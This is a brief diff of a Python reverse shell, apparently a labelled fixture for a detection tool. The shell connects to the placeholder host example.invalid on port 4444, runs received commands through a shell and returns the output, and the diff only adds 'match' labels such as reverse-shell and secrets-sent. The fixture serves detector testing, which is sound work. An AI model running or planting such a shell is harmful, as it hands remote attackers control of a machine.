@@ -3,8 +3,8 @@ import socket
 import subprocess
 
 s = socket.socket()
-s.connect(("example.invalid", 4444))
+s.connect(("example.invalid", 4444))  # match: network-at-import
 while True:
     command = s.recv(1024).decode()
-    out = subprocess.check_output(command, shell=True)  # match: reverse-shell
-    s.send(out)
+    out = subprocess.check_output(command, shell=True)  # match: reverse-shell  # match: execution-of-downloaded
+    s.send(out)  # match: network-at-import  # match: secrets-sent
